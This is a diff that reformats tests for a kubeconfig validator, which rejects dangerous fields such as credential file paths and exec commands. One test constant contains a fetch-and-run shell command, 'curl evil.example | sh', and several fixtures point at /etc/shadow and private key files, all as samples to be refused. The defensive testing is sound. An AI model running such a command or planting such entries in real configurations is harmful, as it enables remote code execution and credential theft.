@@ -52,7 +52,12 @@ function rejection(text: string, policy = NO_EXEC): KubeconfigRejected {
 const EXEC_SH = 'exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, "curl evil.example | sh"], env: [{name: X, value: evil}]}'
 
 const refusedFields: [string, string, string, RegExp][] = [
-  ['certificate-authority', 'clusters:\n- name: c1\n  cluster: {server: "https://x", certificate-authority: /etc/shadow}\n', 'kubeconfig.clusters[0].cluster.certificate-authority', /names a file on the worker host.*'certificate-authority-data'/],
+  [
+    'certificate-authority',
+    'clusters:\n- name: c1\n  cluster: {server: "https://x", certificate-authority: /etc/shadow}\n',
+    'kubeconfig.clusters[0].cluster.certificate-authority',
+    /names a file on the worker host.*'certificate-authority-data'/,
+  ],
   ['client-certificate', withUser('client-certificate: /etc/ssl/private/admin.crt'), 'kubeconfig.users[0].user.client-certificate', /'client-certificate-data'/],
   ['client-key', withUser('client-key: /etc/ssl/private/admin.key'), 'kubeconfig.users[0].user.client-key', /'client-key-data'/],
   ['tokenFile', withUser('tokenFile: /etc/shadow'), 'kubeconfig.users[0].user.tokenFile', /names a file.*'token'/],
@@ -61,7 +66,12 @@ const refusedFields: [string, string, string, RegExp][] = [
   ['exec', withUser(EXEC_SH), 'kubeconfig.users[0].user.exec', /runs a command on the worker host.*KUBECONFIG_EXEC_ALLOWLIST/],
   ['a spelling a decoder might match', withUser('Exec: {command: /bin/sh}'), 'kubeconfig.users[0].user.Exec', /not a kubeconfig field this service accepts/],
   ['an unknown field', 'clusters:\n- name: c1\n  cluster: {server: "https://x"}\nsurprise: /etc/shadow\n', 'kubeconfig.surprise', /not a kubeconfig field/],
-  ['a wrongly typed field', 'clusters:\n- name: c1\n  cluster: {server: "https://x", insecure-skip-tls-verify: "yes"}\n', 'kubeconfig.clusters[0].cluster.insecure-skip-tls-verify', /must be true or false/],
+  [
+    'a wrongly typed field',
+    'clusters:\n- name: c1\n  cluster: {server: "https://x", insecure-skip-tls-verify: "yes"}\n',
+    'kubeconfig.clusters[0].cluster.insecure-skip-tls-verify',
+    /must be true or false/,
+  ],
   ['a second user with exec', withUser().replace('contexts:', `- name: second\n  user:\n    ${EXEC_SH}\ncontexts:`), 'kubeconfig.users[1].user.exec', /runs a command/],
 ]
 
@@ -104,7 +114,9 @@ describe('kubeconfig rules', () => {
     expect(rejection(gke).target).toBe('kubeconfig.users[0].user.exec')
     expect(JSON.parse(checkKubeconfig(gke, { execAllowlist: ['kubelogin', 'gke-gcloud-auth-plugin'] })).users[0].user.exec.command).toBe('gke-gcloud-auth-plugin')
     // A path, or the same name elsewhere, is another command.
-    expect(rejection(gke.replace('command: gke-gcloud-auth-plugin', 'command: /tmp/gke-gcloud-auth-plugin'), { execAllowlist: ['gke-gcloud-auth-plugin'] }).target).toBe('kubeconfig.users[0].user.exec')
+    expect(rejection(gke.replace('command: gke-gcloud-auth-plugin', 'command: /tmp/gke-gcloud-auth-plugin'), { execAllowlist: ['gke-gcloud-auth-plugin'] }).target).toBe(
+      'kubeconfig.users[0].user.exec',
+    )
     // An allowed exec's own fields are still checked.
     expect(rejection(gke.replace('interactiveMode: Never', 'shell: /bin/sh'), { execAllowlist: ['gke-gcloud-auth-plugin'] }).target).toBe('kubeconfig.users[0].user.exec.shell')
   })
@@ -117,7 +129,11 @@ describe('kubeconfig rules', () => {
     ['a list at the root', '- clusters: []\n', /not a YAML or JSON mapping/],
     ['a scalar at the root (a path)', '/home/me/.kube/config', /not its path/],
     ['no clusters', `users:\n- name: u\n  user: {token: ${SECRET}}\n`, /no 'clusters' section/],
-    ['duplicate keys', `clusters:\n- name: c1\n  cluster: {server: "https://x"}\nusers:\n- name: u\n  user:\n    token: ${SECRET}\n    token: ${SECRET}\n`, /not valid YAML or JSON \(DUPLICATE_KEY at line \d+, column \d+\)/],
+    [
+      'duplicate keys',
+      `clusters:\n- name: c1\n  cluster: {server: "https://x"}\nusers:\n- name: u\n  user:\n    token: ${SECRET}\n    token: ${SECRET}\n`,
+      /not valid YAML or JSON \(DUPLICATE_KEY at line \d+, column \d+\)/,
+    ],
     ['broken YAML quoting a secret', `clusters: [\n  token: ${SECRET}: x\n`, /not valid YAML or JSON \([A-Z_]+( at line \d+, column \d+)?\)/],
     ['an empty document', '   \n', /empty/],
   ]
